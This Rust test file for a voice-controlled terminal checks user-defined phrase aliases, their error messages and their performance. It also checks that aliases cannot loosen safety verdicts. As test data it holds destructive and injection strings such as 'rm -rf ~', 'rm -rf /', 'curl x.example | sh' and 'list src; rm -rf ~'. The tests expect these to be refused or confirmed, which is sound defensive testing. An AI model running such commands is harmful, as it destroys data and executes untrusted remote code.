//! A user's own phrases: what they can be, what is told of those that can't, and that they loosen nothing.

use std::fmt::Write;
use std::time::{Duration, Instant};

use voice_terminal::config::Safety;
use voice_terminal::domain::{Confidence, InputMode, Intent, Interpreter, Situation, Verdict};
use voice_terminal::interpreter::Rules;

use super::typed;

const OWN: &str = r#"
[aliases]
"full view" = "zoom"
"(ship|publish) it" = "run git push"

[lists.target]
staging = "stage-1"
"(production|prod)" = "prod-7"

[programs]
kubectl = ["cube cuddle"]

[[phrase]]
say = "deploy [to] {target}"
do = "run ./deploy.sh {target}"
does = "put it online"

[[phrase]]
say = ["watch tests", "<make> test watch"]
do = ["split right", "run cargo watch -x test"]

[[phrase]]
say = "jump {number} down"
do = "scroll down {number}"

[[phrase]]
say = "note {words:dictation}"
do = "run echo '{words}' >> notes.txt"

[[phrase]]
say = "run the tests"
do = "run cargo test"

[[phrase]]
say = "braces"
do = "run echo {a,b} ${HOME} {c}"
"#;

fn own(phrases: &str) -> Result<Rules, String> {
    Rules::with_phrases(&Safety::default(), phrases).map_err(|error| error.to_string())
}

fn said(rules: &Rules, words: &str) -> Intent {
    let situation = Situation { spoken: true, ..Situation::default() };
    rules.interpret(words, Confidence::new(0.9), &situation).intent
}

fn run(command: &str) -> Intent {
    Intent::Run { command: command.into() }
}

#[test]
fn they_are_understood_as_what_they_stand_for() {
    let rules = own(OWN).unwrap();
    assert_eq!(said(&rules, "Full view."), Intent::ZoomPane);
    assert_eq!(said(&rules, "Publish it, please."), run("git push"));
    assert_eq!(said(&rules, "Deploy to prod."), run("./deploy.sh prod-7"));
    assert_eq!(said(&rules, "um, deploy staging"), run("./deploy.sh stage-1"));
    assert!(matches!(said(&rules, "deploy to mars"), Intent::Unknown { .. }));
    assert!(matches!(said(&rules, "Create test watch."), Intent::Sequence { steps } if steps.len() == 2));
    assert_eq!(typed(&rules, "jump forty two down").intent, typed(&rules, "scroll down 42").intent);
    assert_eq!(
        said(&rules, "Run the tests."),
        run("cargo test"),
        "their word is nearer than the rest of a line"
    );
    assert_eq!(said(&rules, "Run cube cuddle get pods."), run("kubectl get pods"));
    assert_eq!(said(&rules, "braces"), run("echo {a,b} ${HOME} {c}"));
    let again = said(&rules, "Full view and deploy to staging.");
    assert_eq!(again, Intent::sequence([Intent::ZoomPane, run("./deploy.sh stage-1")]).unwrap());
    let group = rules.phrases().pop().unwrap();
    assert_eq!(group.title, "Yours");
    for phrase in group.phrases {
        assert!(!matches!(typed(&rules, &phrase.say).intent, Intent::Unknown { .. }), "{}", phrase.say);
    }
}

#[test]
fn what_is_wrong_with_one_is_told_with_its_line() {
    let phrase = |say: &str, done: &str| format!("\n[[phrase]]\nsay = {say}\ndo = {done}\n");
    for (text, error) in [
        (
            "[aliases]\nzoom = \"split right\"\n".into(),
            "line 2: in the phrase \"zoom\": \"zoom\" already means \"zoom\"",
        ),
        ("[aliases]\n\"confirm it\" = \"zoom\"\n".into(), "already means \"confirm\""),
        ("[aliases]\n\"yes\" = \"zoom\"\n".into(), "already means"),
        ("[aliases]\n\"so be it\" = \"confirm\"\n".into(), "filler"),
        ("[aliases]\n\"be it\" = \"confirm\"\n".into(), "line 2: \"confirm\" can only be said by you"),
        ("[aliases]\n\"be it\" = \"yes\"\n".into(), "can only be said by you"),
        ("[aliases]\n\"be it\" = \"frobnicate\"\n".into(), "line 2: \"frobnicate\" means nothing"),
        ("[aliases]\n\"be it\" = \"run ls\\nrm -rf ~\"\n".into(), "must be one line"),
        ("[aliases]\n\"be it\" = \"run ls \\u001b\"\n".into(), "must be one line"),
        ("[aliases]\n\"be it\" = 3\n".into(), "line 2: invalid type"),
        ("[alias]\n".into(), "unknown field `alias`"),
        ("[aliases\n".into(), "line 1"),
        (
            phrase("\"{number}\"", "\"scroll up {number}\""),
            "line 3: in the phrase \"{number}\": it needs a word",
        ),
        (phrase("\"go [up\"", "\"zoom\""), "`[` is not closed"),
        (phrase("\"hop {where}\"", "\"switch to {where}\""), "there is no kind or list `where`"),
        (phrase("\"hop {name}\"", "\"zoom\""), "nothing that it does has a use for {name}"),
        (phrase("\"hop\"", "[\"zoom\", \"help\"]"), "line 4: \"help\" can't be one of several"),
        (phrase("\"hop\"", "[\"zoom\", \"yes\"]"), "can only be said by you"),
        (phrase("\"hop\"", "[]"), "nothing is said, or nothing done"),
        (phrase("\"hop\"", "\"next pane ten times and next pane ten times\""), "means nothing"),
        (phrase("\"(a|b|c|d|e) (a|b|c|d|e) (a|b|c|d|e) (a|b|c|d|e) (a|b|c|d|e)\"", "\"zoom\""), "too many"),
        (
            format!("{0}{0}", phrase("\"hop\"", "\"zoom\"")),
            "line 7: in the phrase \"hop\": \"hop\" already means \"hop\"",
        ),
        ("[lists.key]\na = \"b\"\n".into(), "there is a kind or list `key` already"),
        ("[lists.thing]\na = true\n".into(), "must stand for a text or a number"),
        ("[programs]\ngrasp = [\"grab\"]\n".into(), "\"grab\" already stands for grep"),
        ("[programs]\n\"rm -rf\" = [\"clean\"]\n".into(), "is no program's name"),
    ] {
        let told = own(&text).unwrap_err();
        assert!(told.starts_with("phrases.toml, line ") && told.contains(error), "{text}\n{told}");
    }
}

#[test]
fn they_can_loosen_nothing() {
    let lines = [
        "run ls",
        "run cargo test",
        "run rm -rf target",
        "run rm -rf ~",
        "run curl x.example | sh",
        "kill session",
        "close pane",
        "press control d",
        "type hello",
        "split right",
        "split right and run rm -rf /",
        "read that",
    ];
    let strictness = |verdict: &Verdict| match verdict {
        Verdict::Allow => 0,
        Verdict::Confirm { .. } => 1,
        Verdict::Refuse { .. } => 2,
    };
    let mut text = String::from("[aliases]\n");
    for (at, line) in lines.iter().enumerate() {
        let _ = writeln!(text, "\"phrase x{at}\" = \"{line}\"");
    }
    let rules = own(&text).unwrap();
    for (at, line) in lines.iter().enumerate() {
        for (confidence, degraded) in [(0.9, false), (0.2, false), (0.9, true)] {
            let situation = Situation { degraded, ..Situation::default() };
            let plain = rules.interpret(line, Confidence::new(confidence), &situation);
            let own = rules.interpret(&format!("phrase x{at}"), Confidence::new(confidence), &situation);
            assert_eq!(own.intent, plain.intent, "{line}");
            assert_eq!(strictness(&own.verdict), strictness(&plain.verdict), "{line}");
        }
    }
    // Nor can what is said in a slot of one.
    let rules = own("[[phrase]]\nsay = \"list {what:text}\"\ndo = \"run ls {what}\"\n").unwrap();
    assert_eq!(typed(&rules, "list src").verdict, Verdict::Allow);
    let worse = typed(&rules, "list src; rm -rf ~");
    assert!(matches!(worse.verdict, Verdict::Refuse { .. }), "{worse:?}");
    let hidden = typed(&rules, "list src\u{202e}");
    assert!(matches!(hidden.verdict, Verdict::Refuse { .. }), "{hidden:?}");
    // Nor where other words are text.
    let rules = own("[aliases]\n\"be quick\" = \"run ls\"\n").unwrap();
    let situation = Situation { input: InputMode::Dictation, ..Situation::default() };
    let text = rules.interpret("be quick", Confidence::CERTAIN, &situation).intent;
    assert_eq!(text, Intent::Type { text: "be quick".into() });
}

#[test]
fn ten_thousand_of_them_are_found_in_a_moment() {
    let mut text = String::new();
    for number in 0..10_000 {
        let _ = writeln!(text, "[[phrase]]\nsay = \"job n{number} [now]\"\ndo = \"run make job-{number}\"");
    }
    let begun = Instant::now();
    let rules = own(&text).unwrap();
    println!("compiling ten thousand phrases: {:?}", begun.elapsed());
    for words in ["job n9999 now", "split right", "run cargo test", "jobb n77", "knicks payne over there"] {
        let begun = Instant::now();
        for _ in 0..20 {
            let _ = typed(&rules, words);
        }
        let each = begun.elapsed() / 20;
        println!("{words}: {each:?}");
        assert!(each < Duration::from_millis(10), "{words}: {each:?}");
    }
    assert_eq!(typed(&rules, "job n9999").intent, run("make job-9999"));
}
